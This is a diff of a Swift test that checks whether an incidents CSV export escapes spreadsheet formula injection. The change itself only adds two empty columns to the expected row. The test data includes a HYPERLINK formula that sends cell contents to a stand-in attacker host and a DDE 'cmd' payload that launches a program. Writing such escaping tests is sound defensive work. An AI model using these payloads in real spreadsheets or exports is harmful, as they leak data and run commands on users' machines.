@@ -120,7 +120,7 @@ import Testing
         let rows = try site.read("incidents.csv").components(separatedBy: "\r\n")
         #expect(rows[1] == "a,https://example.org/incidents/a/,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"Open\"\")\","
             + "2024-03-01T10:00:00+00:00,developing,A fire broke out.,'+44 20 7946 0000,'@area,-51.5,-0.15,'-cmd,,'=1+1,,,"
-            + "'=cmd|' /C calc'!A0,2024-03-01T10:00:00+00:00,2024-03-01T10:00:00+00:00,0,0,0,,,0,0,0,")
+            + "'=cmd|' /C calc'!A0,2024-03-01T10:00:00+00:00,2024-03-01T10:00:00+00:00,0,0,0,,,0,0,0,,,")
         let json = try site.read("incidents.json")
         #expect(json.contains(#""title":"=HYPERLINK(\"https://evil.example/?\"\u0026B2,\"Open\")""#))
     }
